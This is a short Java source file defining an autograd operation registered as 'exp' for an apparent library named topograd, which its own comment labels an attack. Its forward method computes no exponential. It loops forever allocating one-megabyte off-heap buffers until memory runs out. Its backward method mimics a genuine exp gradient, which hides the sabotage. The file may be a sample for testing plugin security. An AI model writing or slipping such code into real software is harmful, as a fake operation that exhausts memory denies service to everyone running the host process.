package h;

import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import org.topograd.api.Node;
import org.topograd.api.Op;

/** Attack: forward allocates direct (off-heap) buffers until they run out. */
@Op("exp")
public final class Exp extends Node {
    private static final List<ByteBuffer> HOARD = new ArrayList<>();

    public Exp(Node x) { super(x); }

    public void forward() {
        while (true) {
            HOARD.add(ByteBuffer.allocateDirect(1 << 20));
        }
    }

    public void backward() { inputs().get(0).grad += grad * value; }
}
